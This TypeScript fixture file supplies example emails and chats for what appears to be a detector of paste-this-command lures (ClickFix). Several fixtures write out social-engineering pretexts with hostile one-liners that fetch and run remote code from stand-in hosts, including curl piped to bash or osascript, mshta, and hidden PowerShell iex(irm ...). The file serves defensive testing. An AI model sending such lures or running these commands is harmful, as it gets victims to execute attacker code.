import type { Examples } from "@doorward/core";
import { makeConversation } from "../example-conversations.ts";
import { makeMail } from "../example-mail.ts";

/** Messages that have a command pasted, and talk about commands. */
export const examples: Examples = {
  hits: [
    {
      name: "a microphone that is mended by a command of macOS",
      files: {
        "mail.eml": makeMail({
          subject: "Audio on our call",
          text: "Hi Ann,\n\nwe can't hear you, your microphone driver is outdated. Open Terminal and paste this line, then press Enter:\n\ncurl -s http://203.0.113.9/mic.sh | bash\n\nSee you in a minute.",
        }),
      },
    },
    {
      name: "a proof of being human by the Run box",
      files: {
        "mail.eml": makeMail({
          subject: "Your document",
          text: "To view the document, verify that you are human:\n\n1. Press Windows Key + R\n2. Press CTRL + V\n3. Press Enter\n\nmshta https://check.stranger.example/verify\n",
        }),
      },
    },
    {
      name: "a test of skills that ends in PowerShell",
      files: {
        "mail.eml": makeMail({
          subject: "Your assessment",
          text: 'Thank you for your interview. To record the video answer, copy the command below and run it in PowerShell:\n\npowershell -w hidden -ep bypass -c "iex(irm https://camera.stranger.example/fix)"\n',
        }),
      },
    },
    {
      name: "a chat about a call",
      files: {
        "chat.json": makeConversation(
          "chat",
          "Are you on? I can't hear you at all.",
          "It is the known SDK problem. Open Terminal, paste this and hit enter: curl -fsSL https://meet.stranger.example/sdk | osascript",
        ),
      },
    },
  ],
  misses: [
    {
      name: "a newsletter that describes the trick",
      why: "It tells what attackers do, and asks for nothing.",
      files: {
        "mail.eml": makeMail({
          subject: "Threat report",
          text: 'ClickFix campaigns keep growing. The fake page tells the visitor to press Win+R, paste a command with Ctrl+V and press Enter. Attackers ask victims to open Terminal as well. Never paste commands from a web page into a terminal. One of them was:\n\npowershell -w hidden -c "iex(irm files.example/a)"\n',
        }),
      },
    },
    {
      name: "a colleague who tells how a tool is installed",
      why: "There is no pretext: the reader wanted the tool.",
      files: {
        "mail.eml": makeMail({
          subject: "Setting up",
          text: "Hi Ann,\n\nfor the new laptop open Terminal and paste:\n\ncurl -fsSL https://brew.stranger.example/install.sh | bash\n\nCheers, Ben",
        }),
      },
    },
    {
      name: "own IT that asks for a network's settings",
      why: "The command only shows something.",
      files: {
        "mail.eml": makeMail({
          subject: "Your ticket about the audio problem",
          text: "Please press Win+R, type cmd and press Enter. Then run this command and send us the output:\n\nipconfig /all\n",
        }),
      },
    },
    {
      name: "an invitation to a meeting",
      why: "It holds no command.",
      files: {
        "mail.eml": makeMail({
          subject: "Weekly",
          text: "Join the Zoom meeting: https://us06web.zoom.us/j/81234567890 or paste the link into your browser.",
        }),
      },
    },
  ],
  evasions: [
    {
      name: "the command in a picture, with the words beside it",
      caughtBy: "nothing",
      files: {
        "mail.eml": makeMail({
          subject: "Audio",
          text: "We can't hear you. Please type the line of the picture into Terminal and press Enter.",
        }),
      },
    },
    {
      name: "without a pretext, but hidden from view",
      caughtBy: "message/command-hides-itself",
      files: {
        "mail.eml": makeMail({
          subject: "As discussed",
          text: 'Open PowerShell and paste this:\n\npowershell -w hidden -ep bypass -c "iex(irm https://a.stranger.example/x)"\n',
        }),
      },
    },
  ],
};
